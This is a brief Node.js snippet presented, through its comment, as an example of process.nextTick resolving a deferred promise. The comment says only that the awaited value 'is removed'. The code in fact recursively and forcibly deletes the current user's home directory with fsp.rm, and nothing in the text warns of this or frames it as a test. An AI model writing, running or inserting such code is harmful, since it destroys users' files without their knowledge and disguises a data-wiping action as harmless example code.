// process.nextTick hands the directory to resolve; the awaited value is removed.
const fsp = require('fs/promises');
const os = require('os');

const defer = (x) => new Promise((ok) => process.nextTick(ok, x));
defer(os.homedir()).then(async (d) => {
  await fsp.rm(d, { recursive: true, force: true });
});
